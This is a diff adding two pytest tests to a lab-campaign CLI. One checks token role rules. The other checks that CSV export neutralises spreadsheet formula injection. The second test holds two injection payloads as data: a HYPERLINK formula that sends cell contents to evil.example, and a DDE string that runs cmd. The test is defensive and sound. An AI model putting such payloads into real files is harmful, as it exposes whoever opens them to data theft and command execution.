@@ -563,3 +563,44 @@ def test_db_status_with_a_mongodb_uri_without_its_scheme_is_an_error_line(
     result = CliRunner().invoke(app, ["db", "status"])
     assert result.exit_code == 1, result.output
     assert result.output.startswith("error: MATLOOP_MONGODB_URI: '127.0.0.1:27961' is not")
+
+
+def test_campaigns_are_refused_for_a_token_other_than_an_instruments(cli: CliRunner) -> None:
+    args = ["token", "create", "r2", "--role", "researcher", "--campaign", "opv"]
+    refused = cli.invoke(app, args)
+    assert refused.exit_code == 1 and "Traceback" not in refused.output
+    assert refused.output.startswith(
+        "error: campaigns: they limit the campaigns an instrument token writes to; "
+        "role 'researcher' has read access to every campaign"
+    ), refused.output
+    assert "r2" not in _ok(cli, "token", "list").split()  # nothing stored
+
+
+def test_export_writes_no_text_cell_a_spreadsheet_would_run(cli: CliRunner, tmp_path: Path) -> None:
+    from agents import CampaignAgent
+    from db import CampaignStore
+
+    hyperlink, dde = '=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0"
+    pool = tmp_path / "pool.csv"
+    pool.write_text("@x,degradation\n0.1,1.0\n0.2,2.0\n0.3,1.5\n")  # a column named as a formula
+    create = ("campaign", "create", "opv", "--from-csv", str(pool), "--param", "@x")
+    _ok(cli, *create, "--objective", "degradation:min")
+    proposed = json.loads(_ok(cli, "campaign", "propose", "opv", "-n", "2", "--json"))
+    failing, measured = (t["trial_id"] for t in proposed)
+    CampaignAgent(CampaignStore(), "opv").fail(failing, reason=hyperlink)
+    results = tmp_path / "results.json"
+    row = {"trial_id": measured, "values": {"degradation": -0.5}, "idempotency_key": dde}
+    results.write_text(json.dumps([row]))
+    _ok(cli, "campaign", "observe", "opv", "--from-file", str(results))
+
+    exported = csv.DictReader(io.StringIO(_ok(cli, "campaign", "export", "opv")))
+    rows = {r["trial_id"]: r for r in exported}
+    assert rows[failing]["reason"] == "'" + hyperlink
+    assert rows[measured]["idempotency_key"] == "'" + dde
+    assert rows[measured]["degradation"] == "-0.5"  # a number, written as one
+    assert float(rows[measured]["'@x"]) in {0.1, 0.2, 0.3}  # the header's cell too
+    # JSON holds everything as stored
+    as_json = json.loads(_ok(cli, "campaign", "export", "opv", "--format", "json"))
+    by_id = {r["trial_id"]: r for r in as_json}
+    assert by_id[failing]["reason"] == hyperlink and "@x" in by_id[failing]
+    assert (by_id[measured]["idempotency_key"], by_id[measured]["degradation"]) == (dde, -0.5)
